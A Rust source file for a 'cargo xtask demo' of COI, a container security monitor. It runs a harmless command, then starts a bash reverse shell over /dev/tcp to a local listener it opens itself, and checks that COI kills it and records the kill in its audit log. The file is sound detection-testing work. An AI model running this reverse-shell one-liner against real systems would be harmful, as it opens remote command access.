//! `cargo xtask demo`: what COI does, shown on this machine and checked while it is shown.
//!
//! Promises: nothing is acted or mocked, and each line with `ok` is something that was looked at; it succeeds only if
//! all of them are; what it makes is gone when it ends, also after Ctrl-C.

use std::io;
use std::net::{IpAddr, SocketAddr};
use std::path::{Path, PathBuf};
use std::pin::pin;
use std::time::{Duration, Instant};

use anstyle::{AnsiColor, Style};
use serde_json::Value;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpListener, TcpStream};
use tokio::time::timeout;

use crate::coi::{self, Coi, Profile, Show, Signals};
use crate::setup;

type Result<T> = std::result::Result<T, Box<dyn std::error::Error>>;

/// How long a container may take to be made, to run its command, and to go. Seconds, unless the machine is very busy.
const RUN: Duration = Duration::from_secs(300);
/// How long the listener waits for a sign of life, once the container should be gone.
const SILENCE: Duration = Duration::from_secs(3);
const NOTES: &str = "TODO: find a name for the mouse\n";
const HARMLESS: &str = "hostname && grep -rn TODO .";

/// The command line of `cargo xtask demo`.
#[derive(Debug, clap::Args)]
pub(crate) struct Args {
    /// `coi` is built already (so that nothing is built as root)
    #[arg(long, hide = true)]
    built: Option<PathBuf>,
}

/// Sets the machine up, builds COI, and shows it.
pub(crate) fn run(args: Args) -> Result<()> {
    let ready = setup::ensure()?;
    let program = coi::build_unless(args.built, Profile::Debug)?;
    let address = setup::bridge_address()?;
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let mut facts = Facts::default();
    runtime.block_on(async {
        let mut signals = Signals::catch()?;
        let mut coi = Coi::new(program.clone(), &ready)?;
        let shown = show(&mut coi, address, &mut facts, &mut signals).await;
        let ended = coi.end().await;
        shown.and(ended)
    })?;
    facts.conclude()?;
    next(&program);
    Ok(())
}

/// What to do with what was built.
fn next(program: &Path) {
    // As short as it can be typed from here.
    let here = std::env::current_dir().unwrap_or_default();
    let coi = program.strip_prefix(here).unwrap_or(program).display();
    anstream::println!(
        "\nWhat next: `sudo {coi} watch -- bash` is a shell of your own under the same rules, without a container. In a\n\
         project of yours, `sudo {coi} shell` opens a session in a container; Ctrl-b d leaves it running and watched.\n\
         `{coi} rules list` shows what is looked for."
    );
}

async fn show(coi: &mut Coi, address: IpAddr, facts: &mut Facts, signals: &mut Signals) -> Result<()> {
    std::fs::write(coi.workspace().join("notes.txt"), NOTES)?;

    title(1, "COI loads its programs into the kernel and its rules into a daemon.");
    command("coi daemon");
    let begun = Instant::now();
    coi.start(&[], signals).await?;
    facts.note(true, format!("it was ready after {}", seconds(begun.elapsed())));

    title(2, "A harmless command runs in a container of its own. Nothing should happen to it.");
    let name = harmless(coi, facts, signals).await?;

    title(3, "A reverse shell: bash hands itself to a listener outside. It should be killed at once.");
    attack(coi, &name, address, facts, signals).await?;

    title(4, "What the audit log says about it. The kill should be there, with its reason and its latency.");
    command(&format!("jq . $(coi audit path {name})"));
    audit(&coi.audit(&name, signals).await?, facts);
    Ok(())
}

/// Answers the container's name.
async fn harmless(coi: &Coi, facts: &mut Facts, signals: &mut Signals) -> Result<String> {
    command(&format!("coi run \"{HARMLESS}\""));
    let begun = Instant::now();
    let mut running = coi.spawn(&["run", HARMLESS], Show::Lines)?;
    let ended = signals.unless("the harmless command", RUN, running.ended()).await;
    let ended = match ended {
        Ok(ended) => ended?,
        Err(error) => {
            running.end().await;
            return Err(error.into());
        }
    };
    let code = ended.status.code();
    facts.note(code == Some(0), format!("exit code {} after {}", shown(code), seconds(begun.elapsed())));
    let mut lines = ended.out.lines();
    let name = lines.next().unwrap_or_default().to_owned();
    let found = lines.next().is_some_and(|line| line.ends_with(NOTES.trim_end()));
    facts.note(found, format!("it ran in the container {name}, and grep found the note in the workspace"));
    let alerts =
        coi.audit(&name, signals).await?.into_iter().filter(|record| record["event"]["kind"] == "alert");
    let alerts: Vec<String> = alerts.map(|alert| text(&alert, "/rule/id").to_owned()).collect();
    let said = if alerts.is_empty() { "no rule".into() } else { alerts.join(", ") };
    facts.note(alerts.is_empty(), format!("{said} had anything to say about it"));
    Ok(name)
}

async fn attack(
    coi: &Coi,
    name: &str,
    address: IpAddr,
    facts: &mut Facts,
    signals: &mut Signals,
) -> Result<()> {
    let mut listener = Listener::new(address).await?;
    let place = listener.place;
    let attack = format!("bash -i >& /dev/tcp/{}/{} 0>&1", place.ip(), place.port());
    command(&format!("coi run -- bash -c '{attack}'"));
    let mut running = coi.spawn(&["run", "--", "bash", "-c", &attack], Show::Lines)?;
    let ended = {
        let mut ended = pin!(running.ended());
        let both = async {
            loop {
                tokio::select! {
                    ended = &mut ended => return ended,
                    () = listener.listen(), if !listener.cut => {}
                }
            }
        };
        signals.unless("the reverse shell", RUN, both).await
    };
    let ended = match ended {
        Ok(ended) => ended?,
        Err(error) => {
            running.end().await;
            return Err(error.into());
        }
    };
    let silent = timeout(SILENCE, listener.last_try()).await.is_err();
    match &listener.caught {
        Some((_, peer)) => facts.note(true, format!("the listener got a connection from {}", peer.ip())),
        None => facts.note(
            false,
            format!(
                "no connection came to the listener on {place}; does a firewall of this machine forbid it?"
            ),
        ),
    }
    if listener.heard.is_empty() {
        say("it asked the shell who it is, and heard nothing: everything stood still before an answer");
    } else {
        say("it asked the shell who it is, and this is what it heard before everything stood still:");
    }
    for line in listener.heard.split(|byte| *byte == b'\n').filter(|line| !line.is_empty()) {
        quote(&line.escape_ascii().to_string());
    }
    let last = if listener.cut { "the connection is cut" } else { "nobody answers" };
    let over = listener.caught.is_some() && (listener.cut || silent);
    facts.note(over, format!("no shell is there any more: {last}"));
    let code = ended.status.code();
    facts.note(code == Some(137), format!("`coi run` ended with exit code {}; 137 is a kill", shown(code)));
    let line = format!("coi: killed {name}: rule reverse-shell");
    let told = ended.err.lines().any(|said| said.starts_with(&line));
    facts.note(told, "and with a line that names the rule, the process and the audit log");
    let left = coi.containers()?;
    let said = if left.is_empty() { "no such container any more".into() } else { left.join(", ") };
    facts.note(left.is_empty(), format!("asked for {name}, Incus says: {said}"));
    Ok(())
}

/// What an attacker waits with.
struct Listener {
    listener: TcpListener,
    place: SocketAddr,
    caught: Option<(TcpStream, SocketAddr)>,
    heard: Vec<u8>,
    /// The connection has ended.
    cut: bool,
}

impl Listener {
    async fn new(address: IpAddr) -> io::Result<Self> {
        let listener = TcpListener::bind((address, 0)).await?;
        let place = listener.local_addr()?;
        Ok(Self { listener, place, caught: None, heard: Vec::new(), cut: false })
    }

    /// Waits for a shell, asks it who it is, and hears it out. What was heard stays if this is given up and begun anew.
    async fn listen(&mut self) {
        while !self.cut {
            let Some((stream, _)) = &mut self.caught else {
                if let Ok((mut stream, peer)) = self.listener.accept().await {
                    // A connection that ended at once ends below as well.
                    let _ = stream.write_all(b"id\n").await;
                    self.caught = Some((stream, peer));
                }
                continue;
            };
            // Either way of ending is one.
            self.cut = matches!(stream.read_buf(&mut self.heard).await, Ok(0) | Err(_));
        }
    }

    /// Asks again. Ends only if there was nobody, or an end.
    async fn last_try(&mut self) {
        if let Some((stream, _)) = &mut self.caught {
            let _ = stream.write_all(b"id\n").await;
            self.listen().await;
        }
    }
}

fn audit(records: &[Value], facts: &mut Facts) {
    for record in records {
        quote(&line(record));
    }
    let kills: Vec<&Value> = records
        .iter()
        .filter(|record| {
            text(record, "/coi/action/name") == "kill" && text(record, "/coi/action/result") == "success"
        })
        .collect();
    let [kill] = kills[..] else {
        facts.note(
            false,
            format!("the log has {} records of a successful kill, expected was one", kills.len()),
        );
        return;
    };
    let rule = text(kill, "/rule/id");
    facts.note(rule.starts_with("reverse-shell"), format!("the kill is there, by the rule {rule}"));
    let numbers: Vec<u64> =
        records.iter().filter_map(|record| record["event"]["sequence"].as_u64()).collect();
    let complete = numbers.iter().copied().eq(1..=records.len() as u64);
    facts.note(complete, format!("its {} records are numbered without a gap", records.len()));
    if let Some(latency) = kill["coi"]["action"]["latency_us"].as_u64() {
        facts.note(
            true,
            format!("from the shell's link to the socket to its last process's end: {}", millis(latency)),
        );
    }
}

/// An audit record in one line: when, what, by which rule, who, and what was done how soon.
fn line(record: &Value) -> String {
    let time = text(record, "/@timestamp").split('T').nth(1).unwrap_or_default();
    let time = time.get(..12).unwrap_or(time);
    let (what, colour) = match text(record, "/coi/severity") {
        // Coverage, counts and notes are about no state.
        "" if record["coi"]["state"].is_null() => (text(record, "/coi/record"), AnsiColor::BrightBlack),
        "" => (text(record, "/coi/state"), AnsiColor::BrightBlack),
        what @ ("info" | "warning") => (what, AnsiColor::Yellow),
        what => (what, AnsiColor::Red),
    };
    let style = colour.on_default();
    let mut line = format!("{time} {style}{what:<8}{style:#} ");
    if text(record, "/event/kind") == "alert" {
        let action = &record["coi"]["action"];
        let latency =
            action["latency_us"].as_u64().map(|us| format!(" in {}", millis(us))).unwrap_or_default();
        line += &format!(
            "{:<20} {} ({}) -> {} {}{latency}",
            text(record, "/rule/id"),
            text(record, "/process/executable"),
            record["process"]["pid"],
            text(record, "/coi/action/name"),
            text(record, "/coi/action/result"),
        );
    } else {
        line += text(record, "/coi/message");
    }
    line
}

fn text<'a>(record: &'a Value, place: &str) -> &'a str {
    record.pointer(place).and_then(Value::as_str).unwrap_or_default()
}

fn shown(code: Option<i32>) -> String {
    code.map_or_else(|| "of a signal".to_owned(), |code| code.to_string())
}

fn seconds(time: Duration) -> String {
    format!("{:.1} s", time.as_secs_f64())
}

fn millis(microseconds: u64) -> String {
    format!("{}.{:03} ms", microseconds / 1000, microseconds % 1000)
}

fn say(line: &str) {
    anstream::println!("      {line}");
}

fn quote(line: &str) {
    let dim = Style::new().dimmed();
    anstream::println!("   {dim}|{dim:#} {line}");
}

fn title(number: u8, expected: &str) {
    let bold = Style::new().bold();
    anstream::println!("\n{bold}{number}. {expected}{bold:#}");
}

fn command(line: &str) {
    let dim = Style::new().dimmed();
    anstream::println!("   {dim}$ {line}{dim:#}");
}

/// What was looked at, and what was found.
#[derive(Default)]
struct Facts {
    failed: Vec<String>,
    count: usize,
}

impl Facts {
    fn note(&mut self, holds: bool, what: impl Into<String>) {
        let what = what.into();
        let (word, colour) = if holds { ("ok", AnsiColor::Green) } else { ("FAILED", AnsiColor::Red) };
        let style = colour.on_default().bold();
        anstream::println!("   {style}{word}{style:#} {what}");
        self.count += 1;
        if !holds {
            self.failed.push(what);
        }
    }

    fn conclude(self) -> Result<()> {
        if !self.failed.is_empty() {
            let failed: String = self.failed.iter().map(|what| format!("\n  {what}")).collect();
            return Err(format!("not as it should be:{failed}").into());
        }
        let bold = Style::new().bold();
        anstream::println!(
            "\n{bold}All {} facts hold, and what the demo made is gone again.{bold:#}",
            self.count
        );
        Ok(())
    }
}
